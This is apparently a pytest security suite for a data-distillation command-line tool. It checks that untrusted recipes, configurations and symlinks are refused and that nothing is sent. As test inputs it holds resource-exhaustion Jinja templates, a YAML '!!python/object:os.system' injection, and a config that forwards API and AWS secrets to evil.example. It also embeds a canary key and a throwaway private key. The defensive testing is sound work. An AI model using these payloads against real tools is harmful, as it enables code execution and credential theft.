"""What strangers bring, on the command line: recipes, configurations and links that cost nothing and send nothing."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import ssl
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from distill_data.recipes import trial
from distill_data.recipes.sandbox import Rendering
from tests.system.command import Output, label, run
from tests.system.echoes import Echoes, completion, echoing
from tests.system.every_command import FRONT, Ended, asking, doctor, forked, write_seeds

KEY = "sk-CANARY-Q7XvZ2kWq9Jx4VbZ"
CERTIFICATE = """-----BEGIN PRIVATE KEY-----
MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgDdOPAzNCLhQFnK/s
oiQxgIOj7Yy7zhTNwIwI13mRJEChRANCAAT8J2+D1LFtW0/kJ7MIaEXqKtpUb8gJ
PmWJTq0r4Rbo8d/PutPqS5WgafMU354edNwrtCRif/deUkMNNGEzZrc2
-----END PRIVATE KEY-----
-----BEGIN CERTIFICATE-----
MIIBpzCCAU2gAwIBAgIUDTazDdHscDq+peAWKD08HcK+TYgwCgYIKoZIzj0EAwIw
GjEYMBYGA1UEAwwPdGVhY2hlci5leGFtcGxlMCAXDTI2MTEzMDA2NDAyN1oYDzIx
MjYxMTA2MDY0MDI3WjAaMRgwFgYDVQQDDA90ZWFjaGVyLmV4YW1wbGUwWTATBgcq
hkjOPQIBBggqhkjOPQMBBwNCAAT8J2+D1LFtW0/kJ7MIaEXqKtpUb8gJPmWJTq0r
4Rbo8d/PutPqS5WgafMU354edNwrtCRif/deUkMNNGEzZrc2o28wbTAdBgNVHQ4E
FgQUHh43ZAETWZ+OdbsVtNIRGmdjyQMwHwYDVR0jBBgwFoAUHh43ZAETWZ+OdbsV
tNIRGmdjyQMwDwYDVR0TAQH/BAUwAwEB/zAaBgNVHREEEzARgg90ZWFjaGVyLmV4
YW1wbGUwCgYIKoZIzj0EAwIDSAAwRQIhAMLx5RufyXXZrG+Ad86RdbG0aEuKBqmX
7lQ/5ZyDIcdSAiAnz86rGc1k2qiXUUG+mlMQnj6n+eob7+bdFMH9yACnQg==
-----END CERTIFICATE-----
"""
"""For teacher.example, until 2126, with its own key: it protects nothing."""


@pytest.fixture
def place(tmp_path: Path) -> Path:
    write_seeds(tmp_path, "hello", rows=3)
    return tmp_path


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Echoes]:
    with echoing(tmp_path_factory.mktemp("server")) as server:
        yield server


@pytest.fixture
def echoes(server: Echoes) -> Echoes:
    return server.forgetful()


def refused(ended: Ended, *words: str, code: int = 2) -> None:
    """Check that the command ended in one paragraph with these words."""
    said = ended.err.decode()
    assert ended.code == code, said
    assert "Traceback" not in said
    assert "\n\n" not in said.strip()
    assert not [word for word in words if word not in said], said


# -- recipes -----------------------------------------------------------------------------------------------------------

RECIPES = {
    "a power": (FRONT + "{{ 'a' * 1000000000 }}", "stranger.jinja:8: templates have no operator *"),
    "long loops": (
        FRONT + "{% for a in range(999999) %}{% for b in range(999999) %}x{% endfor %}{% endfor %}",
        "stranger.jinja:8: the loops of this prompt take more than",
    ),
    "a null": (FRONT + "{{ row.nothing }}", "stranger.jinja:8: this value is null"),
    "a server": (FRONT.replace("parser:", "base_url: https://evil.example\nparser:") + "x", "base_url: unknown key"),
    "a tag": (FRONT.replace("about: X.", "about: !!python/object:os.system x") + "x", "tags (!) are not allowed"),
    "a long number": (FRONT.replace("8}", "9" * 5000 + "}") + "x", "which recipes lack"),
}


@pytest.mark.parametrize(("text", "says"), RECIPES.values(), ids=RECIPES)
def test_a_hostile_recipe_sends_nothing(text: str, says: str, echoes: Echoes, place: Path) -> None:
    (place / "stranger.jinja").write_text(text)
    with (place / "seeds.jsonl").open("a") as seeds:
        seeds.write('{"instruction": "x", "nothing": null}\n')
    (place / "null.jsonl").write_text('{"instruction": "x", "nothing": null}\n')
    args = [*asking("label", echoes.url("ok")), "-r", "./stranger.jinja"]
    args[1] = "null.jsonl"
    refused(forked(tuple(args), place), "stranger.jinja", says)
    assert echoes.ledger() == []
    assert not (place / "label.jsonl").exists()
    assert not (place / "label.run").exists()


def little_time() -> None:
    trial.CPU_SECONDS = 1


@pytest.mark.slow
@pytest.mark.parametrize("command", ["label", "check-recipe"])
def test_a_recipe_that_eats_time_is_stopped_in_a_child(command: str, echoes: Echoes, place: Path) -> None:
    (place / "stranger.jinja").write_text(FRONT + "{% set a = [" + "1," * 400_000 + "] %}x")
    args = asking("label", echoes.url("ok"), "-r", "./stranger.jinja")
    ended = forked(args if command == "label" else (command, "stranger.jinja"), place, before=little_time)
    assert ended.code == 2
    assert b"stranger.jinja: reading and rendering it took too long" in ended.out + ended.err
    assert echoes.ledger() == []


def no_bounds() -> None:
    """As if somebody found a way around what a render may spend."""
    little_time()
    Rendering.steps = 1 << 60


@pytest.mark.slow
def test_the_first_row_is_tried_in_a_child_too(echoes: Echoes, place: Path) -> None:
    loops = "".join("{% for " + name + " in row.xs|default([1]) %}" for name in "abcd") + "{% endfor %}" * 4 + "x"
    (place / "stranger.jinja").write_text(FRONT + loops)
    (place / "seeds.jsonl").write_text(json.dumps({"instruction": "x", "xs": list(range(1000))}) + "\n")
    ended = forked(asking("label", echoes.url("ok"), "-r", "./stranger.jinja"), place, before=no_bounds)
    refused(ended, "stranger.jinja: reading and rendering it took too long")
    assert echoes.ledger() == []


# -- keys and hosts ----------------------------------------------------------------------------------------------------

CONFIG = '[models.theirs]\nmodel = "openai/m"\nbase_url = "{url}"\n{more}\n'


def test_a_configuration_that_came_along_sends_no_key(echoes: Echoes, place: Path) -> None:
    more = 'api_key_env = "OPENAI_API_KEY"\nheaders = { X-Stolen = "AWS_SECRET" }'
    (place / "distill.toml").write_text(CONFIG.format(url="https://evil.example/v1", more=more))
    env = {"OPENAI_API_KEY": KEY, "AWS_SECRET": KEY, "HTTPS_PROXY": echoes.root}
    args = ("label", "seeds.jsonl", "-r", "answer", "-t", "theirs", "-o", "label.jsonl")
    refused(
        forked(args, place, env),
        "the value of OPENAI_API_KEY, AWS_SECRET to evil.example",
        f"give --config distill.toml, or export DISTILL_CONFIG={place}/distill.toml once",
    )
    assert echoes.ledger() == []
    named = forked((*args, "--timeout", "1"), place, {**env, "DISTILL_CONFIG": "distill.toml"})
    assert named.code == 4, "it was asked, by a proxy that opens no tunnel"


def test_another_server_for_the_same_run_is_named(echoes: Echoes, place: Path) -> None:
    assert forked(asking("label", echoes.url("ok")), place).code == 0
    with (place / "seeds.jsonl").open("a") as seeds:
        seeds.write('{"instruction": "one more"}\n')
    moved = forked(asking("label", echoes.url("said")), place)
    refused(moved, f"The teacher was at {echoes.url('ok')}, and is at {echoes.url('said')}.", code=5)


@contextlib.contextmanager
def tunnelling(folder: Path) -> Iterator[tuple[str, list[bytes]]]:
    """A proxy that opens tunnels, whatever for, to a TLS server of teacher.example; the heads that both were sent."""
    (folder / "teacher.pem").write_text(CERTIFICATE)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(folder / "teacher.pem")
    heads: list[bytes] = []
    body = completion("fine")
    reply = b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n" % len(body) + body

    async def teach(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heads.append(await reader.readuntil(b"\r\n\r\n"))
        writer.write(reply)
        await writer.drain()
        writer.close()

    async def pump(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(ConnectionError):
            while data := await reader.read(65536):
                writer.write(data)
        writer.close()

    async def tunnel(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heads.append(await reader.readuntil(b"\r\n\r\n"))
        writer.write(b"HTTP/1.1 200 Connection established\r\n\r\n")
        there, back = await asyncio.open_connection("127.0.0.1", ports["teacher"])
        await asyncio.gather(pump(reader, back), pump(there, writer))

    ports: dict[str, int] = {}
    ready, done = threading.Event(), asyncio.Event()
    loop = asyncio.new_event_loop()

    async def run() -> None:
        teacher = await asyncio.start_server(teach, "127.0.0.1", 0, ssl=context)
        proxy = await asyncio.start_server(tunnel, "127.0.0.1", 0)
        ports.update(teacher=teacher.sockets[0].getsockname()[1], proxy=proxy.sockets[0].getsockname()[1])
        ready.set()
        await done.wait()
        teacher.close()
        proxy.close()

    thread = threading.Thread(target=loop.run_until_complete, args=[run()])
    thread.start()
    ready.wait(10)
    try:
        yield f"http://127.0.0.1:{ports['proxy']}", heads
    finally:
        loop.call_soon_threadsafe(done.set)
        thread.join(10)
        loop.close()


@pytest.mark.slow
def test_a_proxy_sees_the_host_and_not_the_key(place: Path) -> None:
    with tunnelling(place) as (proxy, heads):
        env = {"HTTPS_PROXY": proxy, "SSL_CERT_FILE": str(place / "teacher.pem"), "OPENAI_API_KEY": KEY}
        netrc = place / "netrc"
        netrc.write_text("default login joe password other\n")
        netrc.chmod(0o600)
        url = "https://teacher.example/v1"
        job = label(place / "seeds.jsonl", url, Output(place / "out.jsonl"), "--limit", "1")
        run(*job, env=env | {"NETRC": str(netrc)}).ended(0)
        forked(doctor(url), place, env)
    to_proxy, to_teacher = heads[::2], heads[1::2]
    assert len(to_proxy) == len(to_teacher) == 2
    for head in to_proxy:
        assert head.startswith(b"CONNECT teacher.example:443 ")
        assert KEY.encode() not in head
        assert b"authorization" not in head.lower()
    for head in to_teacher:
        assert f"authorization: bearer {KEY}".lower().encode() in head.lower()


# -- files -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("umask", [0, pytest.param(0o077, marks=pytest.mark.slow)])
def test_a_run_is_its_owners_alone_whatever_the_umask(umask: int, echoes: Echoes, place: Path) -> None:
    ended = forked(asking("label", echoes.url("ok")), place, before=lambda: os.umask(umask) and None)
    assert ended.code == 0, ended.err
    run = place / "label.run"
    found = {path: path.lstat().st_mode & 0o777 for path in (run, *run.rglob("*"))}
    assert len(found) > 4
    assert {oct(mode) for path, mode in found.items() if path.is_dir()} == {"0o700"}
    assert {oct(mode) for path, mode in found.items() if path.is_file()} == {"0o600"}


@pytest.mark.parametrize("name", ["label.jsonl", "label.manifest.json", "label.rejects.jsonl", "label.run"])
def test_a_link_where_a_run_would_write_is_refused(name: str, echoes: Echoes, place: Path) -> None:
    victim = place / "victim"
    victim.mkdir() if name.endswith("run") else victim.write_text("mine")
    (place / name).symlink_to(victim)
    refused(forked(asking("label", echoes.url("ok")), place), name, "symbolic link")
    assert echoes.ledger() == []
    assert list(victim.iterdir()) == [] if victim.is_dir() else victim.read_text() == "mine"


def test_a_link_where_rows_would_be_written_is_refused(place: Path) -> None:
    (place / "victim").write_text("mine")
    (place / "f.jsonl").symlink_to(place / "victim")
    refused(forked(("filter", "seeds.jsonl", "-c", "length@question:1,500", "-o", "f.jsonl"), place), "symbolic link")
    assert (place / "victim").read_text() == "mine"
